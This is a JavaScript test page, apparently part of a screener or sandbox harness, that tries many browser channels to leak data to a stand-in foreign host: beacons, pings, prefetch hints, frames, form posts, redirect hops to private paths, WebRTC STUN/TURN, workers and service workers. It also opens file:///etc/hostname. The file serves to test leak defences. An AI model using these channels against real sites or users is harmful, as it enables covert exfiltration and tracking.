/* The hostile page: every way out of the site it knows, tried from the page, its frames and
   each kind of worker, a few times over. When all are done it says so in its title, with the
   channels it tried, after one last allowed request that the site's log shows. */
(function () {
  "use strict";
  var cfg = JSON.parse(document.getElementById("hostile-config").textContent);
  Hostile.configure(cfg);
  var H = Hostile;
  var load = Number(sessionStorage.getItem("hostileLoad") || "0") + 1;
  sessionStorage.setItem("hostileLoad", String(load));
  var controlled = !!(navigator.serviceWorker && navigator.serviceWorker.controller);
  var notes = [];

  function element(tag, attrs, parent) {
    var e = document.createElement(tag);
    Object.keys(attrs).forEach(function (k) { e.setAttribute(k, attrs[k]); });
    (parent || document.body).appendChild(e);
    return e;
  }

  function loaded(e) {
    return new Promise(function (done) { e.onload = e.onerror = done; });
  }

  function frame(attrs) {
    var f = element("iframe", attrs);
    return loaded(f);
  }

  function hint(rel, href, as) {
    var attrs = { rel: rel, href: href };
    if (as) attrs.as = as;
    element("link", attrs, document.head);
  }

  function rtc(win) {
    var c = H.config();
    var pc = new win.RTCPeerConnection({
      iceServers: [
        { urls: ["stun:127.0.0.1:" + c.udp, "stun:" + H.foreignHost + ":" + c.udp] },
        { urls: ["turn:127.0.0.1:" + c.udp + "?transport=udp",
                 "turn:127.0.0.1:" + c.tcp + "?transport=tcp",
                 "turns:127.0.0.1:" + c.tcp + "?transport=tcp",
                 "turn:" + H.foreignHost + ":" + c.tcp + "?transport=tcp"],
          username: "leak", credential: "leak" }],
      iceCandidatePoolSize: 2
    });
    pc.createDataChannel("leak");
    return pc.createOffer().then(function (offer) {
      return pc.setLocalDescription(offer);
    }).then(function () {
      return new Promise(function (done) {
        pc.onicegatheringstatechange = function () {
          if (pc.iceGatheringState === "complete") done();
        };
        setTimeout(done, 3500);
      });
    }).finally(function () { pc.close(); });
  }

  function worker(url) {
    return new Promise(function (done) {
      var w = new Worker(url);
      w.onmessage = function (e) { notes.push("worker:" + e.data.length); done(); };
      w.onerror = done;
      w.postMessage(cfg);
    });
  }

  function sharedWorker(url) {
    if (typeof SharedWorker === "undefined") {
      notes.push("shared-absent");
      return;
    }
    return new Promise(function (done) {
      var w = new SharedWorker(url);
      w.port.onmessage = function (e) { notes.push("shared:" + e.data.length); done(); };
      w.onerror = done;
      w.port.postMessage(cfg);
    });
  }

  function serviceWorker() {
    return navigator.serviceWorker.register("/screener/hostile-sw.js").then(function () {
      return navigator.serviceWorker.ready;
    }, function (e) {
      notes.push("service-refused");
      throw e;
    }).then(function (registration) {
      return new Promise(function (done) {
        navigator.serviceWorker.onmessage = function (e) {
          notes.push("service:" + e.data.length);
          done();
        };
        registration.active.postMessage(cfg);
      });
    });
  }

  var F = function (path) { return H.foreign("https", "/page" + path); };
  var fetchLike = H.common("page");
  var own = [
    ["element", function () { var i = new Image(); i.src = F("/img.png"); return loaded(i); }],
    ["element", function () { return loaded(element("script", { src: F("/s.js") })); }],
    ["element", function () { return loaded(element("link", { rel: "stylesheet", href: F("/s.css") }, document.head)); }],
    ["element", function () { return loaded(element("video", { src: F("/v.mp4") })); }],
    ["font", function () { return new FontFace("leak", "url(" + F("/f.woff2") + ")").load(); }],
    ["beacon", function () { navigator.sendBeacon(F("/beacon"), "leak"); navigator.sendBeacon("/screener.html", "leak"); }],
    ["ping", function () { element("a", { href: "#ping", ping: F("/ping") }).click(); }],
    ["hints", function () {
      hint("preconnect", H.foreign("https", "/"));
      hint("dns-prefetch", H.foreign("https", "/"));
      hint("prefetch", F("/prefetch"));
      hint("preload", F("/preload.js"), "script");
      hint("modulepreload", F("/module.js"));
      hint("prerender", F("/prerender.html"));
      var rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [F("/speculation")] }] });
      document.head.appendChild(rules);
    }],
    ["module", function () { return import(F("/module.js")); }],
    ["worklet", function () { return new AudioContext().audioWorklet.addModule(F("/worklet.js")); }],
    ["frame", function () { return frame({ src: F("/frame.html") }); }],
    ["frame", function () { return frame({ src: H.literal("http", "/frame.html") }); }],
    ["frame", function () {
      return frame({ srcdoc: "<script>fetch('" + F("/srcdoc") + "');new Image().src='" +
                             F("/srcdoc.png") + "'<\/script>" });
    }],
    ["frame", function () {
      return frame({ src: "data:text/html,<script>fetch('" + F("/data-frame") + "')<\/script>" });
    }],
    ["form", function () {
      element("iframe", { name: "sink" });
      var f = element("form", { action: F("/form"), method: "post", target: "sink" });
      element("input", { name: "leak", value: "1" }, f);
      f.submit();
    }],
    ["redirect", function () { return loaded(element("script", { src: H.hop("/js/search.js", F("/hop.js")) })); }],
    ["redirect", function () { return loaded(element("link", { rel: "stylesheet", href: H.hop("/css/site.css", F("/hop.css")) }, document.head)); }],
    ["redirect", function () { var i = new Image(); i.src = H.hop("/images/logo.svg", F("/hop.png")); return loaded(i); }],
    ["redirect", function () { var i = new Image(); i.src = H.hop("/images/logo.svg", "/data/hop-secret.json"); return loaded(i); }],
    ["redirect", function () { return loaded(element("script", { src: H.hop("/js/search.js", "/private/hop.js") })); }],
    ["redirect", function () { return frame({ src: H.hop("/screener.html", F("/hop-frame.html")) }); }],
    ["redirect", function () { return frame({ src: H.hop("/screener.html", "/private/hop-frame.html") }); }],
    ["webrtc", function () { return rtc(window); }],
    ["webrtc", function () {
      var f = element("iframe", { srcdoc: "" });
      return rtc(f.contentWindow);
    }],
    ["dedicated-worker", function () { return worker("/js/hostile-worker.js"); }],
    ["dedicated-worker", function () {
      var code = "importScripts('" + location.origin + "/js/hostile-worker.js');";
      return worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    }],
    ["shared-worker", function () { return sharedWorker("/js/hostile-shared.js"); }],
    ["shared-worker", function () {
      var code = "importScripts('" + location.origin + "/js/hostile-shared.js');";
      return sharedWorker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    }],
    ["service-worker", serviceWorker],
    ["service-worker", function () {
      return fetch("/data/search.json?swproxy=1").then(function (r) { return r.text(); })
        .then(function (t) { notes.push("swproxy:" + t.slice(0, 24)); });
    }]
  ];

  // Navigations come last: each must be opened outside or dropped, so the page stays.
  var navigations = [
    ["navigation", function () { window.open(F("/window")); }],
    ["navigation", function () { element("a", { href: F("/anchor") }).click(); }],
    ["navigation", function () {
      var f = element("form", { action: F("/top-form"), method: "post" });
      f.submit();
    }],
    ["navigation", function () { location.href = "javascript:void(0)"; }],
    ["navigation", function () { window.open("file:///etc/hostname"); }]
  ];

  H.run(fetchLike.concat(own).concat(navigations), cfg.rounds).then(function (channels) {
    return H.within(4000, fetch("/data/search.json?hostile=done&load=" + load)).then(function () {
      document.title = "hostile done " + load + " " + (controlled ? "controlled" : "uncontrolled") +
                       " | " + channels.join(" ") + " | " + notes.join(" ");
    });
  });
})();
